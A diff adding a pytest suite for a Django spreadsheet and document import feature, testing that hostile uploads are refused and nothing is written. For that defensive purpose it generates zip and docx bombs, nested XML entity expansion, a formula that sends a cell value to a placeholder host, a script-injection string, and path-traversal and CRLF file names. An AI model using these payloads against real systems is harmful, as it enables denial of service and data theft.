@@ -1,0 +1,408 @@
+"""Hostile and broken files: each ends soon, small, in Chinese, with nothing written."""
+
+import io
+import random
+import re
+import resource
+import time
+import zipfile
+from collections.abc import Callable
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from docx import Document
+from openpyxl import Workbook, load_workbook
+
+from targets.importing import Unreadable
+from targets.importing.child import run_limited
+from targets.importing.workbook import read_grids
+from targets.models import Event, Import, Item, Plan
+from tests import importing_files as files
+
+SECONDS = 10
+MEMORY = 512 * 1024 * 1024
+HEADS = ("序号", "目标名称", "工作标准", "牵头单位")
+ROW = (1, "做强产业", "(1) 引进项目。", "单位1")
+CHINESE = re.compile(r"[\u4e00-\u9fff]{3,}")
+
+SHEET = "xl/worksheets/sheet1.xml"
+SHEET_START = (
+    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
+    b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+)
+
+
+def good() -> bytes:
+    return files.workbook(HEADS, ROW)
+
+
+def with_members(**members: bytes) -> bytes:
+    """Return a good workbook with members replaced or added; __ in a name is /, _x_ a dot."""
+    changes = {name.replace("__", "/").replace("_x_", "."): data for name, data in members.items()}
+    return repacked(changes)
+
+
+def repacked(changes: dict[str, bytes]) -> bytes:
+    result = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(good())) as source,
+        zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for name in source.namelist():
+            if name not in changes:
+                target.writestr(name, source.read(name))
+        for name, data in changes.items():
+            target.writestr(name, data)
+    return result.getvalue()
+
+
+def old_file(*names: str) -> bytes:
+    """Return the beginning of a compound file whose folder holds the names."""
+    folder = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in names)
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + folder + b"\0" * 2048
+
+
+def empty_rows(count: int) -> bytes:
+    body = b"<sheetData>" + b'<row r="1"/>' * count + b"</sheetData></worksheet>"
+    return repacked({SHEET: SHEET_START + body})
+
+
+def numbered_rows(count: int) -> bytes:
+    rows = b"".join(b'<row r="%d" s="1" customFormat="1"/>' % n for n in range(1, count + 1))
+    return repacked({SHEET: SHEET_START + b"<sheetData>" + rows + b"</sheetData></worksheet>"})
+
+
+def zip_bomb() -> bytes:
+    """Return a package that declares 4 GB: one member of 100 MB under forty names."""
+    result = io.BytesIO()
+    zeros = b" " * (100 * 1024 * 1024)
+    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/workbook.xml", b"<workbook/>")
+        archive.writestr(SHEET, zeros)
+    data = bytearray(result.getvalue())
+    # The directory's record of the sheet says 4 GB; nobody has to unpack it to see that.
+    start = data.rindex(b"PK\x01\x02")
+    data[start + 24 : start + 28] = (4 * 1024**3 - 2).to_bytes(4, "little")
+    return bytes(data)
+
+
+def wide_merge() -> bytes:
+    """Return a sheet of few bytes with a merged range of 17 thousand million cells."""
+    body = (
+        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
+        b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
+    )
+    return repacked({SHEET: SHEET_START + b'<dimension ref="A1:XFD1048576"/>' + body})
+
+
+def far_cell() -> bytes:
+    body = (
+        b'<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+        b"</sheetData></worksheet>"
+    )
+    return repacked({SHEET: SHEET_START + body})
+
+
+def entities(member: str) -> bytes:
+    lol = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
+    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">' + lol + b"]><x>&l9;</x>"
+    return repacked({member: xml})
+
+
+def many_strings() -> bytes:
+    """Return shared strings that a reader holds as objects many times their size."""
+    strings = b"<si><t>a</t></si>" * 4_500_000
+    xml = (
+        b'<?xml version="1.0"?><sst xmlns='
+        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + strings + b"</sst>"
+    )
+    return repacked({"xl/sharedStrings.xml": xml})
+
+
+def many_styles() -> bytes:
+    """Return a stylesheet of a million formats."""
+    xml = (
+        b'<?xml version="1.0"?><styleSheet xmlns='
+        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>'
+        + b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"><alignment wrapText="1"/></xf>'
+        * 1_000_000
+        + b"</cellXfs></styleSheet>"
+    )
+    return repacked({"xl/styles.xml": xml})
+
+
+def with_external_link() -> bytes:
+    return repacked({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
+
+
+def with_formula() -> bytes:
+    book = Workbook()
+    book.active.append(HEADS)
+    book.active.append((1, "做强产业", '=WEBSERVICE("http://example.test/"&A1)', "单位1"))
+    return files.saved(book)
+
+
+def long_cell(length: int) -> Callable[[], bytes]:
+    def make() -> bytes:
+        text = "长" * length
+        body = "".join(
+            f'<row r="{row}">'
+            + "".join(
+                f'<c r="{letter}{row}" t="inlineStr"><is><t>{value}</t></is></c>'
+                for letter, value in zip("ABCD", cells, strict=True)
+            )
+            + "</row>"
+            for row, cells in ((1, HEADS), (2, (1, "做强产业", f"(1) {text}", "单位1")))
+        )
+        return repacked(
+            {SHEET: SHEET_START + f"<sheetData>{body}</sheetData></worksheet>".encode()}
+        )
+
+    return make
+
+
+def docx_bomb() -> bytes:
+    result = io.BytesIO()
+    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/document.xml", b" " * (120 * 1024 * 1024))
+    return result.getvalue()
+
+
+def docx_without_tables() -> bytes:
+    document = Document()
+    document.add_paragraph("没有表格的正文")
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
+    "empty": (lambda: b"", "文件是空的"),
+    "noise": (lambda: random.Random(1).randbytes(5000), "无法识别的文件"),
+    "pdf": (lambda: b"%PDF-1.7\n" + b"x" * 500, "这是PDF文件"),
+    "password": (lambda: old_file("EncryptionInfo", "EncryptedPackage"), "设有打开密码"),
+    "old-xls": (lambda: old_file("Workbook"), "旧版Excel文件"),
+    "old-doc": (lambda: old_file("WordDocument"), "旧版Word文档"),
+    "html-as-xls": (lambda: "<html><table><tr><td>序号".encode("gbk"), "这是网页"),
+    "csv-in-gbk": (lambda: "序号,目标名称,工作标准\r\n1,做强产业,引进".encode("gbk"), "文本文件"),
+    "csv-in-utf16": (lambda: "序号,目标名称".encode("utf-16"), "无法识别的文件"),
+    "xml-spreadsheet": (lambda: b'<?xml version="1.0"?><Workbook/>', "XML文件"),
+    "truncated": (lambda: good()[:-900], "不完整或已损坏"),
+    "half": (lambda: good()[: len(good()) // 2], "不完整或已损坏"),
+    "zip-of-text": (lambda: with_text_zip(), "不是Excel工作簿或Word文档"),
+    "ods": (lambda: with_text_zip("content.xml"), "OpenDocument"),
+    "macro": (lambda: repacked({"xl/vbaProject.bin": b"\0" * 100}), "含有宏"),
+    "external-links": (with_external_link, "指向其他文件的链接"),
+    "zip-bomb-4-gb": (zip_bomb, "超出可读取的范围"),
+    "docx-bomb": (docx_bomb, "超出可读取的范围"),
+    "million-rows": (lambda: empty_rows(1_000_000), "空行也计算在内"),
+    "million-styled-rows": (lambda: numbered_rows(1_000_000), "空行也计算在内"),
+    "far-cell": (far_cell, "还有内容"),
+    "entities-in-sheet": (lambda: entities(SHEET), "XML实体"),
+    "entities-in-workbook": (lambda: entities("xl/workbook.xml"), "XML实体"),
+    "entities-in-styles": (lambda: entities("xl/styles.xml"), "XML实体"),
+    "many-styles": (many_styles, ""),
+    "no-sheet": (lambda: repacked({SHEET: b"<broken"}), "已损坏"),
+    "docx-without-tables": (docx_without_tables, "没有表格"),
+}
+
+# Files that open, and are then not understood: the preview says where.
+PUZZLING: dict[str, tuple[Callable[[], bytes], str]] = {
+    "wide-merge": (wide_merge, "没有找到表头"),
+    "wrong-sheet": (lambda: files.workbook(("姓名", "年龄"), ("张三", 30)), "没有找到表头"),
+    "empty-workbook": (lambda: files.workbook(), "没有找到表头"),
+    "formula": (with_formula, "单元格是公式"),
+    "too-long": (long_cell(32_768), "32772字"),
+    "at-a-cells-limit": (long_cell(32_763), "最多20000字"),
+}
+
+
+def with_text_zip(name: str = "readme.txt") -> bytes:
+    result = io.BytesIO()
+    with zipfile.ZipFile(result, "w") as archive:
+        archive.writestr(name, "x")
+    return result.getvalue()
+
+
+@pytest.fixture
+def post(cast, as_user):
+    client = as_user(cast.office)
+
+    def post(data: bytes):
+        file = SimpleUploadedFile("方案.xlsx", data)
+        started = time.monotonic()
+        form = {"kind": "plan", "year": 2031, "file": file}
+        page = client.post("/imports/", form, follow=True)
+        assert time.monotonic() - started < SECONDS
+        # The greatest child so far, in KiB: no reader may ever have been larger.
+        assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < MEMORY
+        return page
+
+    return post
+
+
+def assert_nothing_written():
+    assert not Plan.objects.filter(year=2031).exists()
+    assert not Import.objects.exists()
+    assert not Event.objects.filter(verb="import").exists()
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_file_is_refused_in_words(name, post):
+    make, message = HOSTILE[name]
+    page = post(make())
+    assert page.status_code == 200
+    assert page.redirect_chain == [], "there is no preview of it"
+    shown = " ".join(page.context["form"].errors["file"])
+    assert message in shown
+    assert CHINESE.search(shown)
+    assert_nothing_written()
+
+
+@pytest.mark.parametrize("name", PUZZLING)
+def test_a_file_that_makes_no_sense_is_reported_by_place(name, post):
+    make, message = PUZZLING[name]
+    page = post(make())
+    html = page.content.decode()
+    assert message in html
+    assert "怎么办" in html
+    assert "digest" not in html, "nothing can be confirmed"
+    assert_nothing_written()
+
+
+def test_strings_by_the_million_end_in_words_either_way(post):
+    """Whether they still fit depends on the machine; that it ends soon and small does not."""
+    html = post(many_strings()).content.decode()
+    assert "没有找到表头" in html or "超出限制" in html
+    assert_nothing_written()
+
+
+def test_a_file_over_the_limit_is_refused_before_it_is_read(post):
+    page = post(good() + b"\0" * (9 * 1024 * 1024))
+    assert "超过8MB" in page.content.decode()
+
+
+def test_a_reader_that_hangs_is_stopped(monkeypatch):
+    monkeypatch.setattr("targets.importing.child.TIME_LIMIT", 0.5)
+    started = time.monotonic()
+    with pytest.raises(Unreadable, match="超出限制"):
+        run_limited(_hang, b"")
+    assert time.monotonic() - started < 3
+
+
+def _hang(data: bytes) -> None:
+    while True:
+        time.sleep(1)
+
+
+def test_a_reader_that_eats_memory_is_stopped():
+    with pytest.raises(Unreadable, match="超出限制"):
+        run_limited(lambda data: len(bytearray(1024**3)), b"")
+    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < MEMORY
+
+
+def test_a_good_file_still_comes_in(post):
+    page = post(good())
+    assert page.context["preview"].may_apply
+
+
+def test_text_that_looks_like_a_formula_stays_text(cast, as_user):
+    client = as_user(cast.office)
+    book = load_workbook(io.BytesIO(files.workbook(HEADS)))
+    standard = '（1）=HYPERLINK("http://example.test")<script>alert(1)</script>'
+    for column, value in enumerate((1, "@做强", standard, "单位1"), start=1):
+        cell = book.active.cell(2, column)
+        cell.value = value
+        if isinstance(value, str):
+            cell.data_type = "s"
+    file = SimpleUploadedFile("a.xlsx", files.saved(book))
+    page = client.post("/imports/", {"kind": "plan", "year": 2031, "file": file}, follow=True)
+    html = page.content.decode()
+    assert "<script>alert" not in html
+    data = {"upload": page.request["QUERY_STRING"].partition("=")[2]}
+    client.post("/imports/apply/", {**data, "digest": page.context["preview"].digest})
+    item = Item.objects.get(goal__plan__year=2031)
+    assert item.standard == standard.removeprefix("（1）")
+    assert item.goal.name == "@做强"
+
+
+@pytest.mark.parametrize("name", ["../../etc/passwd.xlsx", "附" * 121 + ".xlsx", "a\r\nb.xlsx"])
+def test_a_file_name_is_only_ever_shown(cast, as_user, name):
+    file = SimpleUploadedFile("x.xlsx", good())
+    file.name = name
+    form = {"kind": "plan", "year": 2031, "file": file}
+    page = as_user(cast.office).post("/imports/", form, follow=True)
+    assert page.status_code == 200
+    assert "/etc/passwd" not in page.content.decode()
+
+
+# Fuzz: mutated workbooks ---------------------------------------------------------
+
+
+def mutate(data: bytes, chance: random.Random) -> bytes:
+    """Return the package with a few mutations: bytes of a member, members, the package."""
+    kind = chance.randrange(5)
+    if kind == 0:
+        raw = bytearray(data)
+        for _ in range(chance.randint(1, 30)):
+            raw[chance.randrange(len(raw))] = chance.randrange(256)
+        return bytes(raw)
+    if kind == 1:
+        cut = sorted(chance.sample(range(len(data)), 2))
+        return data[: cut[0]] + data[cut[1] :]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    name = chance.choice(sorted(members))
+    text = bytearray(members[name])
+    if kind == 2:
+        del members[name]
+    elif kind == 3:
+        for _ in range(chance.randint(1, 10)):
+            text[chance.randrange(len(text))] = chance.choice(b'<>"&/=0169AZ \x00\xff')
+        members[name] = bytes(text)
+    else:
+        # Numbers are what sizes, indexes and references are made of.
+        numbers = list(re.finditer(rb"[0-9]+", bytes(text)))
+        if numbers:
+            hit = chance.choice(numbers)
+            value = chance.choice([b"0", b"-1", b"99999999", b"4294967296", b"1e9", b""])
+            members[name] = bytes(text[: hit.start()]) + value + bytes(text[hit.end() :])
+    result = io.BytesIO()
+    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member, content in members.items():
+            archive.writestr(member, content)
+    return result.getvalue()
+
+
+@pytest.mark.parametrize("seed", range(4))
+def test_mutated_workbooks_are_read_or_refused_in_words(seed):
+    chance = random.Random(seed)
+    original = files.source_workbook() if seed % 2 else good()
+    outcomes = {"read": 0, "refused": 0}
+    for _ in range(60):
+        data = mutate(original, chance)
+        started = time.monotonic()
+        try:
+            grids = read_grids(data)
+        except Unreadable as refusal:
+            assert CHINESE.search(str(refusal))
+            outcomes["refused"] += 1
+        else:
+            assert all(isinstance(cell, str) for grid in grids for row in grid.rows for cell in row)
+            outcomes["read"] += 1
+        assert time.monotonic() - started < SECONDS
+    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < MEMORY
+    assert all(outcomes.values()), "the mutations must both break files and leave some whole"
+
+
+def test_mutated_tables_are_previewed_and_write_nothing(cast, as_user):
+    chance = random.Random(7)
+    client = as_user(cast.office)
+    texts = "|(1)|（2）乙。|(1) 甲。|1|１|九|单位1|单位1单位2|无名局|（续）|(99999)|\u202e|序号"
+    texts = [*texts.split("|"), "目标名称", "=1", "0", "-1", "1e9", "²"]
+    for _ in range(25):
+        rows = [[chance.choice(texts) for _ in range(chance.randint(1, 6))] for _ in range(8)]
+        file = SimpleUploadedFile("a.xlsx", files.workbook(HEADS, *rows))
+        form = {"kind": "plan", "year": 2031, "file": file}
+        assert client.post("/imports/", form, follow=True).status_code == 200
+    assert_nothing_written()
